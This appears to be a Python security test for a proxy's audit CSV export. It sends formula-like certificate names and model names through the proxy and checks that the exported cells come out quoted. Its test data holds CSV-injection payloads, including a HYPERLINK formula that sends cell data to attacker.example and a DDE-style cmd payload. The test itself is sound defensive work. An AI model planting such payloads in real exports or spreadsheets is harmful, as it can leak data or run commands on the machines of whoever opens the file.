"""A CSV export cannot carry a formula into a spreadsheet: a client whose certificate name and requested model
are formulas (OWASP CSV injection) goes through the running proxy, then `guard audit export --format csv`
writes those cells with a leading single quote, and nothing else in the file starts like a formula."""

from __future__ import annotations

import csv
import time
from pathlib import Path
from typing import Any

from guard import pki
from guard.cli import main
from tests.hardening.conftest import events

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
CN = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open report")'
MODELS = [
    '=HYPERLINK("http://attacker.example/","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
]


def test_formula_cells_are_quoted_in_a_real_export(guard_factory: Any, pki_dir: Path, tmp_path: Path) -> None:
    pki.issue(pki_dir, "formula-client", client=True, cn=CN, o=["Example Corp"], ou=["apps"])
    g = guard_factory(audit={"dir": str(tmp_path / "audit"), "sealer": "thread"})
    with g.client("formula-client") as c:
        for m in MODELS:
            r = c.post("/v1/chat/completions", json={"model": m, "messages": [{"role": "user", "content": "hi"}]})
            assert r.headers.get("x-guard-request-id")
    audit = Path(g.config.audit.dir)
    deadline = time.monotonic() + 5
    while sum(1 for e in events(audit) if e.get("model") in MODELS) < len(MODELS) and time.monotonic() < deadline:
        time.sleep(0.05)
    out = tmp_path / "export.csv"
    assert (
        main(
            [
                "audit",
                "export",
                str(audit),
                "--since",
                "2000-01-01",
                "--until",
                "2100-01-01",
                "--format",
                "csv",
                "-o",
                str(out),
            ]
        )
        == 0
    )
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    mine = [r for r in rows if r["cn"] == "'" + CN]
    assert {r["model"] for r in mine} == {"'" + m for m in MODELS}  # quoted, otherwise intact
    for row in rows:
        for col, cell in row.items():
            assert not cell.startswith(FORMULA_START) and not cell.lstrip(" \n").startswith(FORMULA_START), (col, cell)
